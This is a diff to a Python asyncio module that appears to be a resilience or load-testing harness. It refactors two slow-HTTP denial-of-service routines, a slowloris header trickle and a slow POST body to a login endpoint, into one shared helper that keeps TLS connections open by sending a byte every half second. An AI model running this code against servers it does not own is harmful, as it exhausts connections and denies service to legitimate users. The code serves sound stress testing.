@@ -114,27 +114,21 @@ def address(number: int) -> str:
 
 async def slow_heads(where: Besieged, crowd: Crowd, number: int) -> None:
     """A byte of a request twice a second, and when that is refused the same again (slowloris)."""
-    reader, writer = await _tls(where, number)
-    crowd.more(1)
-    try:
-        writer.write(f"GET {BASE}/version HTTP/1.1\r\nHost: x\r\nX: ".encode())
-        while not reader.at_eof():
-            writer.write(b"y")
-            await writer.drain()
-            await asyncio.sleep(0.5)
-    finally:
-        crowd.more(-1)
-        writer.transport.abort()
+    await _trickle(where, crowd, number, f"GET {BASE}/version HTTP/1.1\r\nHost: x\r\nX: ", b"y")
 
 
 async def slow_bodies(where: Besieged, crowd: Crowd, number: int) -> None:
     """A byte of a body twice a second."""
+    await _trickle(where, crowd, number, f"POST {BASE}/login HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n", b" ")
+
+
+async def _trickle(where: Besieged, crowd: Crowd, number: int, beginning: str, byte: bytes) -> None:
     reader, writer = await _tls(where, number)
     crowd.more(1)
     try:
-        writer.write(f"POST {BASE}/login HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n".encode())
+        writer.write(beginning.encode())
         while not reader.at_eof():
-            writer.write(b" ")
+            writer.write(byte)
             await writer.drain()
             await asyncio.sleep(0.5)
     finally:
